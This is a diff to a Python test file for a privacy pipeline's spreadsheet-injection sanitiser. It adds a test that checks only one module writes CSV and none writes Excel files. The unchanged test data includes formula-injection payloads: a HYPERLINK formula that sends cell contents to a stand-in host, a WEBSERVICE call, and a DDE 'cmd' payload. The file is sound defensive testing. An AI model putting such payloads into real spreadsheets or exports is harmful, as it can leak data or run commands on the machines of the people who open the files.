@@ -2,12 +2,14 @@
 
 import csv
 import itertools
+import re
 from pathlib import Path
 
 import numpy as np
 import pandas as pd
 
 from pipelines.privacy.spreadsheets import safe_for_spreadsheets, safe_text, write_csv
+from tests.conftest import ROOT
 
 FORMULAS = (
     "1+1", "HYPERLINK(\"http://host.example/?\"&A1,\"open\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", "WEBSERVICE(\"http://host.example\")",
@@ -55,3 +57,14 @@ def test_numbers_missing_values_and_plain_texts_stay_as_they_are() -> None:
         {"change": [-1.5, np.nan], "n": [-3, 4], "code": ["low_back;thigh", None], "text": ["18-29", "a=b, 'c' @d"]}
     )
     pd.testing.assert_frame_equal(safe_for_spreadsheets(frame), frame)
+
+
+def test_one_place_writes_csv_for_people_and_none_writes_spreadsheet_files() -> None:
+    """R-S1: XLSX is not written anywhere, so that no cell of type formula or hyperlink can be."""
+    texts = {
+        path.name: path.read_text(encoding="utf-8")
+        for top in ("pipelines", "assets")
+        for path in (ROOT / top).rglob("*.py")
+    }
+    assert [name for name, text in texts.items() if ".to_csv(" in text or "csv.writer" in text] == ["spreadsheets.py"]
+    assert [name for name, text in texts.items() if re.search(r"to_excel|ExcelWriter|xlsxwriter|openpyxl", text)] == []
